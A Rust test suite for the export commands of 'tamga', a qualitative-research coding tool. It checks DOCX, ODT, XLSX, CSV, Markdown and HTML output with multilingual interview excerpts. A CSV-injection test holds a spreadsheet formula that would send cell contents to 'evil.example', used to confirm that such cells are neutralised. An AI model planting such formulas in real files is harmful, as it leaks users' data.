//! Retrieval and export through the `tamga` binary, each produced file read back with an
//! independent reader (zip + quick-xml for DOCX, ODT and XLSX, the csv crate for CSV): every
//! excerpt's exact text, its citation and its memo must be there — Kazakh, Chinese and curly
//! quotes included.

#![expect(
    clippy::unwrap_used,
    reason = "test helpers fail loudly; that is their job"
)]

use std::collections::HashMap;
use std::io::Read as _;
use std::path::{Path, PathBuf};

use quick_xml::events::Event;

mod common;

use common::{Env, s};

const INTERVIEW: &str = "Біз Қазақстанға келдік. “Қазақстан — біздің тарихи отан,” деді ол.\n\n他说：“历史故乡”是我们的家。 She said: ’we came back’ & stayed <here>.\n\nThird paragraph about citizenship and visas.\n";

/// One excerpt as the CLI reports it.
#[derive(Debug)]
struct Expected {
    text: String,
    memo: String,
    citation: String,
    excerpt_id: String,
}

/// A project with one interview and four codings (two codes, a subcode, memos in Kazakh,
/// Chinese and curly quotes); returns it with what every export must contain.
fn coded_project(env: &Env) -> (PathBuf, Vec<Expected>) {
    let project = env.path("field.tamga");
    env.ok(&["new", s(&project), "--name", "Fieldwork"]);
    let file = env.path("interview 1.txt");
    std::fs::write(&file, INTERVIEW).unwrap();
    env.ok(&["import", s(&project), s(&file)]);
    for (code, quote, memo) in [
        (
            "Homeland",
            "“Қазақстан — біздің тарихи отан,”",
            "Emic: тарихи отан — “historical homeland”",
        ),
        (
            "Homeland/Chinese",
            "历史故乡",
            "历史故乡 = historical homeland",
        ),
        (
            "Return",
            "’we came back’ & stayed <here>.",
            "Return as “homecoming” & <tags>",
        ),
        ("Return", "Third paragraph about citizenship", ""),
    ] {
        env.ok(&[
            "code",
            s(&project),
            "--document",
            "interview 1",
            "--code",
            code,
            "--quote",
            quote,
            "--memo",
            memo,
        ]);
    }
    let segments = env.json(&["segments", s(&project), "--json"]);
    let expected = segments
        .as_array()
        .unwrap()
        .iter()
        .map(|seg| {
            let id = seg["excerpt_id"].as_str().unwrap().to_owned();
            let shown = env.json(&["show", s(&project), &id, "--json"]);
            Expected {
                text: seg["text"].as_str().unwrap().to_owned(),
                memo: seg["memo"].as_str().unwrap().to_owned(),
                citation: shown["citation"].as_str().unwrap().to_owned(),
                excerpt_id: id,
            }
        })
        .collect();
    (project, expected)
}

fn zip_entry(path: &Path, name: &str) -> String {
    let mut archive = zip::ZipArchive::new(std::fs::File::open(path).unwrap()).unwrap();
    let mut entry = archive.by_name(name).unwrap();
    let mut out = String::new();
    entry.read_to_string(&mut out).unwrap();
    out
}

/// Paragraphs of an XML document as (style, text): `para` elements start paragraphs,
/// `text` elements' content is text, `brk` elements are line breaks, `tab` tabs, and `space`
/// elements stand for `c` spaces (ODF's `text:s`).
struct XmlText<'a> {
    para: &'a [&'a str],
    style: &'a str,
    text: &'a [&'a str],
    brk: &'a str,
    tab: &'a str,
    space: &'a str,
}

fn attr(e: &quick_xml::events::BytesStart<'_>, name: &str) -> Option<String> {
    e.try_get_attribute(name).unwrap().map(|a| {
        a.normalized_value(quick_xml::XmlVersion::Implicit1_0)
            .unwrap()
            .into_owned()
    })
}

fn xml_paragraphs(xml: &str, k: &XmlText<'_>) -> Vec<(String, String)> {
    let mut reader = quick_xml::Reader::from_str(xml);
    reader.config_mut().trim_text(false);
    let mut out = Vec::new();
    let mut current: Option<(String, String)> = None;
    let mut in_text = 0usize;
    loop {
        let event = reader.read_event().unwrap();
        match &event {
            Event::Start(e) | Event::Empty(e) => {
                let name = e.name().as_ref().to_owned();
                let empty = matches!(event, Event::Empty(_));
                if k.para.contains(&name.as_str()) {
                    current = Some((attr(e, k.style).unwrap_or_default(), String::new()));
                    if empty {
                        out.extend(current.take());
                    }
                } else if let Some((style, text)) = current.as_mut() {
                    if k.text.contains(&name.as_str()) {
                        in_text += usize::from(!empty);
                    } else if name == k.brk {
                        text.push('\n');
                    } else if name == k.tab {
                        text.push('\t');
                    } else if name == k.space {
                        let n: usize = attr(e, "text:c").map_or(1, |c| c.parse().unwrap());
                        text.push_str(&" ".repeat(n));
                    } else if name == "w:pStyle" {
                        *style = attr(e, "w:val").unwrap_or_default();
                    }
                }
            }
            Event::End(e) => {
                let name = e.name().as_ref().to_owned();
                if k.text.contains(&name.as_str()) {
                    in_text = in_text.saturating_sub(1);
                }
                if k.para.contains(&name.as_str()) {
                    out.extend(current.take());
                }
            }
            Event::Text(t) => {
                if let Some((_, text)) = current.as_mut()
                    && (in_text > 0 || k.text.is_empty())
                {
                    text.push_str(&t.xml10_content());
                }
            }
            Event::GeneralRef(r) => {
                if let Some((_, text)) = current.as_mut()
                    && (in_text > 0 || k.text.is_empty())
                {
                    match r.resolve_char_ref().unwrap() {
                        Some(c) => text.push(c),
                        None => text.push(match r.xml10_content().as_ref() {
                            "amp" => '&',
                            "lt" => '<',
                            "gt" => '>',
                            "quot" => '"',
                            "apos" => '\'',
                            other => panic!("unknown entity {other}"),
                        }),
                    }
                }
            }
            Event::Eof => break,
            _ => {}
        }
    }
    out
}

const DOCX: XmlText<'static> = XmlText {
    para: &["w:p"],
    style: "",
    text: &["w:t"],
    brk: "w:br",
    tab: "w:tab",
    space: "",
};

const ODF: XmlText<'static> = XmlText {
    para: &["text:p", "text:h"],
    style: "text:style-name",
    text: &[],
    brk: "text:line-break",
    tab: "text:tab",
    space: "text:s",
};

/// Asserts that `paragraphs` hold each excerpt's text in a paragraph styled `quote_style`,
/// its citation, and its memo.
fn assert_excerpts_in(paragraphs: &[(String, String)], quote_style: &str, expected: &[Expected]) {
    for e in expected {
        assert!(
            paragraphs
                .iter()
                .any(|(style, text)| style == quote_style && *text == e.text),
            "no {quote_style} paragraph with {:?} in {paragraphs:#?}",
            e.text
        );
        assert!(
            paragraphs
                .iter()
                .any(|(_, text)| text.contains(&e.citation)),
            "no citation {:?}",
            e.citation
        );
        assert!(
            paragraphs
                .iter()
                .any(|(_, text)| text.contains(&e.excerpt_id)),
            "no id {:?}",
            e.excerpt_id
        );
        if !e.memo.is_empty() {
            assert!(
                paragraphs
                    .iter()
                    .any(|(_, text)| *text == format!("Memo: {}", e.memo)),
                "no memo {:?}",
                e.memo
            );
        }
    }
}

fn export(env: &Env, project: &Path, name: &str, extra: &[&str]) -> PathBuf {
    let out = env.path(name);
    let mut args = vec!["export", s(project), "--out", s(&out)];
    args.extend_from_slice(extra);
    let said = env.ok(&args);
    assert!(said.contains(s(&out)), "{said}");
    out
}

#[test]
fn docx_has_headings_quotes_citations_and_memos_in_real_styles() {
    let env = Env::new();
    let (project, expected) = coded_project(&env);
    let out = export(&env, &project, "excerpts.docx", &["--format", "docx"]);
    let paragraphs = xml_paragraphs(&zip_entry(&out, "word/document.xml"), &DOCX);
    assert_excerpts_in(&paragraphs, "Quote", &expected);
    for heading in ["Homeland", "Homeland/Chinese", "Return"] {
        assert!(
            paragraphs
                .iter()
                .any(|(style, text)| style == "Heading1" && text.ends_with(heading)),
            "no heading {heading}"
        );
    }
    let styles = zip_entry(&out, "word/styles.xml");
    for name in ["heading 1", "Quote", "Excerpt Citation", "Excerpt Memo"] {
        assert!(
            styles.contains(&format!("w:val=\"{name}\"")),
            "style {name} missing"
        );
    }
}

#[test]
fn odt_is_a_valid_package_with_styles_and_every_excerpt() {
    let env = Env::new();
    let (project, expected) = coded_project(&env);
    let out = export(&env, &project, "excerpts.odt", &[]);
    // The mimetype comes first, stored, so readers can sniff it.
    let mut archive = zip::ZipArchive::new(std::fs::File::open(&out).unwrap()).unwrap();
    {
        let first = archive.by_index(0).unwrap();
        assert_eq!(first.name().unwrap(), "mimetype");
        assert_eq!(first.compression(), zip::CompressionMethod::Stored);
    }
    assert_eq!(
        zip_entry(&out, "mimetype"),
        "application/vnd.oasis.opendocument.text"
    );
    assert!(zip_entry(&out, "META-INF/manifest.xml").contains("content.xml"));
    let paragraphs = xml_paragraphs(&zip_entry(&out, "content.xml"), &ODF);
    assert_excerpts_in(&paragraphs, "Quotations", &expected);
    assert!(
        paragraphs
            .iter()
            .any(|(style, text)| style == "Heading_20_1" && text.ends_with("Homeland/Chinese"))
    );
    // Every style the content uses is defined.
    let styles = zip_entry(&out, "styles.xml");
    xml_paragraphs(&styles, &ODF);
    for (style, _) in &paragraphs {
        assert!(
            styles.contains(&format!("style:name=\"{style}\"")),
            "undefined style {style}"
        );
    }
}

/// Cells of the first sheet as rows of strings (shared strings resolved, numbers as written).
fn xlsx_rows(path: &Path) -> Vec<Vec<String>> {
    let shared: Vec<String> = xml_paragraphs(
        &zip_entry(path, "xl/sharedStrings.xml"),
        &XmlText {
            para: &["si"],
            style: "",
            text: &["t"],
            brk: "",
            tab: "",
            space: "",
        },
    )
    .into_iter()
    .map(|(_, t)| t)
    .collect();
    let sheet = zip_entry(path, "xl/worksheets/sheet1.xml");
    let mut reader = quick_xml::Reader::from_str(&sheet);
    let mut rows: Vec<Vec<String>> = Vec::new();
    let mut kind = String::new();
    let mut column = 0usize;
    let mut in_value = false;
    loop {
        match reader.read_event().unwrap() {
            Event::Start(e) if e.name().as_ref() == "row" => rows.push(Vec::new()),
            Event::Start(e) | Event::Empty(e) if e.name().as_ref() == "c" => {
                kind = attr(&e, "t").unwrap_or_default();
                // "J2" -> column 9: cells without a value are left out of the XML.
                let reference = attr(&e, "r").unwrap();
                column = reference
                    .chars()
                    .take_while(char::is_ascii_uppercase)
                    .fold(0, |n, c| n * 26 + (c as usize - 'A' as usize + 1))
                    - 1;
            }
            Event::Start(e) if e.name().as_ref() == "v" => in_value = true,
            Event::End(e) if e.name().as_ref() == "v" => in_value = false,
            Event::Text(t) if in_value => {
                let v = t.xml10_content().into_owned();
                let cell = if kind == "s" {
                    shared[v.parse::<usize>().unwrap()].clone()
                } else {
                    v
                };
                let row = rows.last_mut().unwrap();
                row.resize(column, String::new());
                row.push(cell);
            }
            Event::Eof => break,
            _ => {}
        }
    }
    let width = rows.first().map_or(0, Vec::len);
    for row in &mut rows {
        row.resize(width, String::new());
    }
    assert!(sheet.contains("<autoFilter"), "no autofilter");
    assert!(sheet.contains("<pane"), "header row not frozen");
    rows
}

const COLUMNS: [&str; 11] = [
    "code",
    "document",
    "paragraph",
    "start",
    "end",
    "text",
    "memo",
    "coder",
    "created",
    "excerpt_id",
    "citation",
];

fn assert_rows(rows: &[Vec<String>], expected: &[Expected]) {
    assert_eq!(rows[0], COLUMNS);
    assert_eq!(rows.len(), expected.len() + 1);
    let by_id: HashMap<&str, &Vec<String>> = rows[1..].iter().map(|r| (r[9].as_str(), r)).collect();
    for e in expected {
        let row = by_id[e.excerpt_id.as_str()];
        assert_eq!(row[5], e.text);
        assert_eq!(row[6], e.memo);
        assert_eq!(row[10], e.citation);
        assert_eq!(row[1], "interview 1");
        assert_eq!(row[7], "Aigerim");
    }
}

#[test]
fn csv_has_a_bom_and_one_exact_row_per_excerpt() {
    let env = Env::new();
    let (project, expected) = coded_project(&env);
    let out = export(&env, &project, "excerpts.csv", &[]);
    let bytes = std::fs::read(&out).unwrap();
    assert!(bytes.starts_with("\u{feff}".as_bytes()));
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(&bytes[3..]);
    let rows: Vec<Vec<String>> = reader
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect();
    assert_rows(&rows, &expected);
    // The Chinese excerpt is in paragraph 2.
    let chinese = rows.iter().find(|r| r[5] == "历史故乡").unwrap();
    assert_eq!(chinese[0], "Homeland/Chinese");
    assert_eq!(chinese[2], "2");
}

/// Would a spreadsheet read this cell as a formula? Excel, LibreOffice Calc and Google Sheets
/// evaluate a cell whose text starts with one of these (OWASP, "CSV Injection").
fn spreadsheet_runs(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

#[test]
fn passages_that_look_like_formulas_are_inert_in_csv_and_exact_in_raw_csv_and_xlsx() {
    let env = Env::new();
    let project = env.path("inject.tamga");
    env.ok(&["new", s(&project)]);
    let quotes = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+7 701 555 12 34 called",
        "- Біз қайттық, said the elder",
        "@everyone came",
        "=1+1",
    ];
    let text = quotes.join("\n\n");
    let file = env.path("dialogue.txt");
    std::fs::write(&file, &text).unwrap();
    env.ok(&["import", s(&project), s(&file)]);
    for (i, quote) in quotes.iter().enumerate() {
        let code = if i % 2 == 0 { "=SUM(A1)" } else { "-minus" };
        env.ok(&[
            "code",
            s(&project),
            "--document",
            "dialogue",
            &format!("--code={code}"),
            &format!("--quote={quote}"),
        ]);
    }
    let read = |path: &Path, skip_bom: bool| -> Vec<Vec<String>> {
        let bytes = std::fs::read(path).unwrap();
        let body = if skip_bom {
            assert!(bytes.starts_with("\u{feff}".as_bytes()));
            &bytes[3..]
        } else {
            assert!(
                !bytes.starts_with("\u{feff}".as_bytes()),
                "raw CSV has no BOM"
            );
            &bytes[..]
        };
        csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(body)
            .records()
            .map(|r| r.unwrap().iter().map(str::to_owned).collect())
            .collect()
    };
    let sheet = read(&export(&env, &project, "for-excel.csv", &[]), true);
    let raw = read(
        &export(&env, &project, "for-r.csv", &["--format", "csv-raw"]),
        false,
    );
    assert_eq!(sheet.len(), quotes.len() + 1);
    // No cell of the spreadsheet CSV runs, and each reads back as its text after the apostrophe.
    for row in &sheet {
        for cell in row {
            assert!(!spreadsheet_runs(cell), "live cell {cell:?}");
        }
    }
    for quote in quotes {
        assert!(sheet.iter().any(|r| r[5] == format!("'{quote}")), "{quote}");
        assert!(raw.iter().any(|r| r[5] == quote), "raw lost {quote}");
    }
    // Code names that look like formulas are neutralised too, and kept exactly in raw.
    assert!(sheet.iter().any(|r| r[0] == "'=SUM(A1)"));
    assert!(raw.iter().any(|r| r[0] == "=SUM(A1)"));
    // XLSX cells are strings, never formulas, and exact.
    let xlsx = export(&env, &project, "excerpts.xlsx", &[]);
    let sheet_xml = zip_entry(&xlsx, "xl/worksheets/sheet1.xml");
    assert!(
        !sheet_xml.contains("<f>") && !sheet_xml.contains("<f "),
        "a formula cell"
    );
    let rows = xlsx_rows(&xlsx);
    for quote in quotes {
        assert!(rows.iter().any(|r| r[5] == quote), "xlsx lost {quote}");
    }
}

#[test]
fn xlsx_has_a_filtered_header_and_one_exact_row_per_excerpt() {
    let env = Env::new();
    let (project, expected) = coded_project(&env);
    let out = export(&env, &project, "excerpts.xlsx", &["--sort", "document"]);
    let rows = xlsx_rows(&out);
    assert_rows(&rows, &expected);
    // Sorted by document order: starts increase.
    let starts: Vec<usize> = rows[1..].iter().map(|r| r[3].parse().unwrap()).collect();
    assert!(starts.is_sorted(), "{starts:?}");
}

/// Removes Markdown's backslash escapes.
fn unescape_markdown(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        if c == '\\' && chars.peek().is_some_and(char::is_ascii_punctuation) {
            out.extend(chars.next());
        } else {
            out.push(c);
        }
    }
    out
}

/// Text of an HTML page: tags removed, entities decoded.
fn html_text(html: &str) -> String {
    let mut out = String::new();
    let mut in_tag = false;
    for c in html.chars() {
        match c {
            '<' => in_tag = true,
            '>' if in_tag => in_tag = false,
            c if !in_tag => out.push(c),
            _ => {}
        }
    }
    out.replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&quot;", "\"")
        .replace("&#39;", "'")
        .replace("&amp;", "&")
}

#[test]
fn markdown_and_html_hold_every_excerpt_citation_and_memo() {
    let env = Env::new();
    let (project, expected) = coded_project(&env);
    let md = std::fs::read_to_string(export(&env, &project, "excerpts.md", &[])).unwrap();
    let plain = unescape_markdown(&md);
    for e in &expected {
        assert!(plain.contains(&format!("> {}  \n", e.text)), "{}", e.text);
        assert!(plain.contains(&e.citation), "{}", e.citation);
        assert!(plain.contains(&format!("**Memo:** {}", e.memo)) || e.memo.is_empty());
    }
    assert!(md.contains("\n## Homeland/Chinese\n"));

    let html = std::fs::read_to_string(export(
        &env,
        &project,
        "excerpts.html",
        &["--context", "paragraph"],
    ))
    .unwrap();
    assert!(html.starts_with("<!DOCTYPE html>"));
    assert!(!html.contains("<script") && !html.contains("<link") && !html.contains("src="));
    assert!(html.contains("class=\"swatch\" style=\"background:#"));
    assert!(html.contains("@media print"));
    let text = html_text(&html);
    for e in &expected {
        assert!(text.contains(&e.text), "{}", e.text);
        assert!(text.contains(&e.citation), "{}", e.citation);
        assert!(text.contains(&e.memo), "{}", e.memo);
    }
    // Paragraph context around the first excerpt.
    assert!(text.contains("Біз Қазақстанға келдік. “Қазақстан — біздің тарихи отан,” деді ол."));
}

#[test]
fn retrieval_options_choose_the_excerpts() {
    let env = Env::new();
    let (project, _) = coded_project(&env);
    let rows = |extra: &[&str]| -> Vec<Vec<String>> {
        let out = export(&env, &project, "r.csv", extra);
        let bytes = std::fs::read(out).unwrap();
        csv::Reader::from_reader(&bytes[3..])
            .records()
            .map(|r| r.unwrap().iter().map(str::to_owned).collect())
            .collect()
    };
    assert_eq!(rows(&["--code", "Homeland"]).len(), 1);
    assert_eq!(rows(&["--code", "Homeland", "--subcodes"]).len(), 2);
    assert_eq!(rows(&["--code", "Return", "--code", "Homeland"]).len(), 3);
    assert_eq!(rows(&["--not", "Return"]).len(), 2);
    assert_eq!(
        rows(&["--document", "interview 1", "--coded-by", "Aigerim"]).len(),
        4
    );
    // Homeland with its subcode overlaps nothing of Return.
    assert!(
        rows(&[
            "--code",
            "Homeland",
            "--subcodes",
            "--code",
            "Return",
            "--all-of"
        ])
        .is_empty()
    );

    let err = env.fails(&[
        "export",
        s(&project),
        "--out",
        s(&env.path("x.csv")),
        "--code",
        "Nope",
    ]);
    assert!(err.contains("no code “Nope”"), "{err}");
    let err = env.fails(&[
        "export",
        s(&project),
        "--out",
        s(&env.path("x.csv")),
        "--coded-by",
        "Nobody",
    ]);
    assert!(err.contains("no coder named “Nobody”"), "{err}");
    let err = env.fails(&["export", s(&project), "--out", s(&env.path("x.pdf"))]);
    assert!(err.contains("give --format"), "{err}");
}

#[test]
fn show_prints_an_excerpt_by_id_or_prefix() {
    let env = Env::new();
    let (project, expected) = coded_project(&env);
    let e = &expected[0];
    let out = env.ok(&["show", s(&project), &e.excerpt_id]);
    assert!(out.contains(&e.citation), "{out}");
    assert!(out.contains(&format!("memo: {}", e.memo)), "{out}");
    assert!(out.contains("interview 1, ¶1"), "{out}");
    assert!(out.contains("Біз Қазақстанға келдік. [["), "{out}");
    // Lower case, without the T-, only the first six characters.
    let prefix = e.excerpt_id[2..8].to_lowercase();
    let shown = env.json(&["show", s(&project), &prefix, "--json", "--context", "3"]);
    assert_eq!(shown["text"], e.text.as_str());
    assert_eq!(shown["excerpt_id"], e.excerpt_id.as_str());
    assert_eq!(shown["before"], "к. ");
    assert_eq!(shown["code"], "Homeland");
    assert_eq!(shown["paragraph"], 1);
    let err = env.fails(&["show", s(&project), "T-ZZZZZZZZ"]);
    assert!(
        err.contains("no excerpt “T-ZZZZZZZZ”") && err.contains("field.tamga"),
        "{err}"
    );
    let err = env.fails(&["show", s(&project), "not/an/id"]);
    assert!(err.contains("not an excerpt id"), "{err}");
}

#[test]
fn the_codebook_exports_with_paths_descriptions_colours_and_counts() {
    let env = Env::new();
    let project = env.path("sample.tamga");
    env.ok(&["sample", s(&project)]);
    // A definition card, written through the CLI.
    let card = [
        (
            "when-to-use",
            "Speakers claim “ours” and are told “not yours”.",
        ),
        (
            "when-not-to-use",
            "Plain talk of paperwork: use Citizenship.",
        ),
        ("example", "«Біз қазақпыз, бірақ бізді қытай дейді»"),
    ];
    let first = env.json(&["codes", s(&project), "--json"])[0]["path"]
        .as_str()
        .unwrap()
        .to_owned();
    for (field, text) in card {
        env.ok(&[
            "memo",
            s(&project),
            "--code",
            &first,
            "--field",
            field,
            "--text",
            text,
        ]);
    }
    let codes = env.json(&["codes", s(&project), "--json"]);
    let codes = codes.as_array().unwrap();
    assert_eq!(codes[0]["when_to_use"], card[0].1);
    assert_eq!(codes[0]["when_not_to_use"], card[1].1);
    assert_eq!(codes[0]["example"], card[2].1);

    let bytes = std::fs::read(export(&env, &project, "codebook.csv", &["--codebook"])).unwrap();
    let rows: Vec<Vec<String>> = csv::Reader::from_reader(&bytes[3..])
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect();
    assert_eq!(rows.len(), codes.len());
    for (row, code) in rows.iter().zip(codes) {
        assert_eq!(row[0], code["path"].as_str().unwrap());
        assert_eq!(row[1], code["description"].as_str().unwrap());
        assert_eq!(row[2], code["color"].as_str().unwrap());
        assert_eq!(row[3], code["count"].to_string());
        assert_eq!(row[4], code["total"].to_string());
        assert_eq!(row[5], code["when_to_use"].as_str().unwrap());
        assert_eq!(row[6], code["when_not_to_use"].as_str().unwrap());
        assert_eq!(row[7], code["example"].as_str().unwrap());
    }
    let xlsx = xlsx_rows(&export(&env, &project, "codebook.xlsx", &["--codebook"]));
    assert_eq!(
        xlsx[0],
        [
            "code",
            "description",
            "color",
            "count",
            "total",
            "when_to_use",
            "when_not_to_use",
            "example"
        ]
    );
    assert_eq!(xlsx[1..], rows[..]);

    let md = unescape_markdown(
        &std::fs::read_to_string(export(&env, &project, "codebook.md", &["--codebook"])).unwrap(),
    );
    let docx = xml_paragraphs(
        &zip_entry(
            &export(&env, &project, "codebook.docx", &["--codebook"]),
            "word/document.xml",
        ),
        &DOCX,
    );
    for code in codes {
        let path = code["path"].as_str().unwrap();
        let description = code["description"].as_str().unwrap();
        assert!(md.contains(&format!(
            "| {path} | {description} | `{}` |",
            code["color"].as_str().unwrap()
        )));
        assert!(docx.iter().any(|(_, t)| t.ends_with(path)), "{path}");
        assert!(docx.iter().any(|(_, t)| t == description), "{description}");
    }
    // The card: the table's last columns in Markdown, labelled paragraphs in DOCX.
    assert!(
        md.contains(&format!(
            "| {} | {} | {} |",
            card[0].1, card[1].1, card[2].1
        )),
        "{md}"
    );
    for (label, (_, text)) in ["When to use", "When not to use", "Example"]
        .iter()
        .zip(card)
    {
        assert!(
            docx.iter().any(|(_, t)| *t == format!("{label}: {text}")),
            "{label}"
        );
    }
    let err = env.fails(&[
        "export",
        s(&project),
        "--codebook",
        "--out",
        s(&env.path("cb.html")),
    ]);
    assert!(
        err.contains("cannot be exported as html") && err.contains("cb.html"),
        "{err}"
    );
    assert!(!env.path("cb.html").exists());
}

#[test]
fn a_whole_document_exports_with_highlights_and_comments() {
    let env = Env::new();
    let (project, expected) = coded_project(&env);
    let html = std::fs::read_to_string(export(
        &env,
        &project,
        "doc.html",
        &["--document-view", "interview 1"],
    ))
    .unwrap();
    let text = html_text(&html);
    for para in INTERVIEW.split("\n\n") {
        assert!(text.contains(para.trim_end()), "{para}");
    }
    for e in &expected {
        assert!(text.contains(&e.excerpt_id));
    }
    assert!(html.contains("class=\"coded\" style=\"background:#"));
    assert!(text.contains("Homeland/Chinese") && text.contains("Return as “homecoming” & <tags>"));

    let docx = export(
        &env,
        &project,
        "doc.docx",
        &["--document-view", "interview 1"],
    );
    let body: Vec<String> = xml_paragraphs(&zip_entry(&docx, "word/document.xml"), &DOCX)
        .into_iter()
        .map(|(_, t)| t)
        .collect();
    let paragraphs: Vec<&str> = INTERVIEW.trim_end().split("\n\n").collect();
    assert_eq!(body[1..], paragraphs[..]);
    let comments = zip_entry(&docx, "word/comments.xml");
    let comment_text: Vec<String> = xml_paragraphs(&comments, &DOCX)
        .into_iter()
        .map(|(_, t)| t)
        .collect();
    for e in &expected {
        assert!(
            comment_text.iter().any(|t| t.contains(&e.excerpt_id)),
            "{comment_text:?}"
        );
        if !e.memo.is_empty() {
            assert!(comment_text.contains(&e.memo), "{comment_text:?}");
        }
    }
    assert!(comments.contains("w:author=\"Aigerim\""));
    let err = env.fails(&[
        "export",
        s(&project),
        "--document-view",
        "interview 1",
        "--out",
        s(&env.path("doc.csv")),
    ]);
    assert!(err.contains("choose html, docx"), "{err}");
}

#[test]
fn an_unwritable_path_fails_naming_it_and_leaves_nothing_behind() {
    let env = Env::new();
    let (project, _) = coded_project(&env);
    let blocker = env.path("a file");
    std::fs::write(&blocker, "not a folder").unwrap();
    let out = blocker.join("excerpts.docx");
    let err = env.fails(&["export", s(&project), "--out", s(&out)]);
    assert!(
        err.starts_with("tamga: cannot create the export file"),
        "{err}"
    );
    assert!(err.trim_end().ends_with(s(&out)), "{err}");

    let missing = env.path("no such folder").join("excerpts.odt");
    let err = env.fails(&["export", s(&project), "--out", s(&missing)]);
    assert!(err.contains("the folder does not exist"), "{err}");

    let folder = env.path("folder.md");
    std::fs::create_dir(&folder).unwrap();
    let err = env.fails(&["export", s(&project), "--out", s(&folder)]);
    assert!(err.contains("that is a folder"), "{err}");

    // A re-export replaces the old file whole, and no temporary file is left.
    let out = export(&env, &project, "again.md", &["--code", "Return"]);
    let first = std::fs::read_to_string(&out).unwrap();
    export(&env, &project, "again.md", &["--code", "Homeland"]);
    let second = std::fs::read_to_string(&out).unwrap();
    assert_ne!(first, second);
    let leftovers: Vec<_> = std::fs::read_dir(env.dir.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with(".again.md."))
        .collect();
    assert!(leftovers.is_empty(), "{leftovers:?}");
}

#[test]
fn memos_export_grouped_by_kind_with_what_each_is_on_in_every_format() {
    let env = Env::new();
    let (project, expected) = coded_project(&env);
    let p = s(&project);
    env.ok(&[
        "memo",
        p,
        "--journal",
        "Week 1 — Алматы",
        "--text",
        "First interviews.\n\nThe word *oralman* keeps coming back, and **nobody** likes it.",
    ]);
    env.ok(&[
        "memo",
        p,
        "--document",
        "interview 1",
        "--text",
        "Who: a teacher, 34. Where: her kitchen. 历史故乡 & <tags>.",
    ]);
    env.ok(&[
        "memo",
        p,
        "--code",
        "Homeland",
        "--text",
        "Claims to a homeland “by history”.",
    ]);
    let coded = &expected[1];
    // The memo a coding already carries is replaced; it is one coding memo either way.
    env.ok(&[
        "memo",
        p,
        "--coding",
        &coded.excerpt_id,
        "--text",
        "A *Chinese* phrase for it.",
    ]);
    let listed = env.json(&["memos", p, "--json"]);
    let listed = listed.as_array().unwrap();
    let kinds: Vec<&str> = listed.iter().map(|m| m["kind"].as_str().unwrap()).collect();
    // One journal entry, one document memo, one card, three coding memos (two written with
    // their codings, one replaced).
    assert_eq!(
        kinds,
        ["journal", "document", "code", "coding", "coding", "coding"]
    );

    // Headings of every kind that has memos, in order, then each memo with what it is on.
    let headings = ["Journal", "Document memos", "Code memos", "Coding memos"];
    let said = [
        "First interviews.",
        "The word oralman keeps coming back, and nobody likes it.",
        "Who: a teacher, 34. Where: her kitchen. 历史故乡 & <tags>.",
        "Description: Claims to a homeland “by history”.",
        "A Chinese phrase for it.",
        // An untitled memo is headed by what it is on; a coding memo says its code and
        // document below.
        &format!("{} “历史故乡”", coded.excerpt_id),
        "Homeland/Chinese · interview 1 · Aigerim, ",
    ];

    let docx = xml_paragraphs(
        &zip_entry(
            &export(&env, &project, "memos.docx", &["--memos"]),
            "word/document.xml",
        ),
        &DOCX,
    );
    let odt = xml_paragraphs(
        &zip_entry(
            &export(&env, &project, "memos.odt", &["--memos"]),
            "content.xml",
        ),
        &ODF,
    );
    for (format, paragraphs) in [("docx", &docx), ("odt", &odt)] {
        let texts: Vec<&str> = paragraphs.iter().map(|(_, t)| t.as_str()).collect();
        let at: Vec<usize> = headings
            .iter()
            .map(|h| {
                texts
                    .iter()
                    .position(|t| t == h)
                    .unwrap_or_else(|| panic!("{format}: no heading {h} in {texts:#?}"))
            })
            .collect();
        assert!(at.is_sorted(), "{format}: {at:?}");
        assert!(texts.contains(&"Week 1 — Алматы"), "{format}");
        for line in said {
            assert!(
                texts.iter().any(|t| t.contains(line)),
                "{format}: no {line:?} in {texts:#?}"
            );
        }
        // Each coding memo's text is there, with its emphasis markers gone.
        for e in expected
            .iter()
            .filter(|e| !e.memo.is_empty() && e.excerpt_id != coded.excerpt_id)
        {
            assert!(texts.iter().any(|t| *t == e.memo), "{format}: {}", e.memo);
        }
    }
    // Emphasis is real emphasis: an italic run in DOCX, a styled span in ODT.
    let docx_xml = zip_entry(&env.path("memos.docx"), "word/document.xml");
    assert!(
        docx_xml.contains("<w:i />") || docx_xml.contains("<w:i/>"),
        "no italic run"
    );
    assert!(
        docx_xml.contains("<w:b />") || docx_xml.contains("<w:b/>"),
        "no bold run"
    );
    let odt_xml = zip_entry(&env.path("memos.odt"), "content.xml");
    assert!(odt_xml.contains("<text:span text:style-name=\"Emphasis\">oralman</text:span>"));

    let md = std::fs::read_to_string(export(&env, &project, "memos.md", &["--memos"])).unwrap();
    assert!(
        md.contains("The word *oralman* keeps coming back, and **nobody** likes it."),
        "{md}"
    );
    let md = unescape_markdown(&md.replace("**", "").replace('*', ""));
    let html = html_text(
        &std::fs::read_to_string(export(&env, &project, "memos.html", &["--memos"])).unwrap(),
    );
    for (format, text) in [("md", &md), ("html", &html)] {
        let mut from = 0;
        for h in headings {
            let at = text[from..]
                .find(h)
                .unwrap_or_else(|| panic!("{format}: {h} missing or out of order"));
            from += at + h.len();
        }
        for line in said {
            assert!(text.contains(line), "{format}: no {line:?} in {text}");
        }
    }
    let err = env.fails(&["export", p, "--memos", "--out", s(&env.path("memos.csv"))]);
    assert!(err.contains("cannot be exported as csv"), "{err}");
}
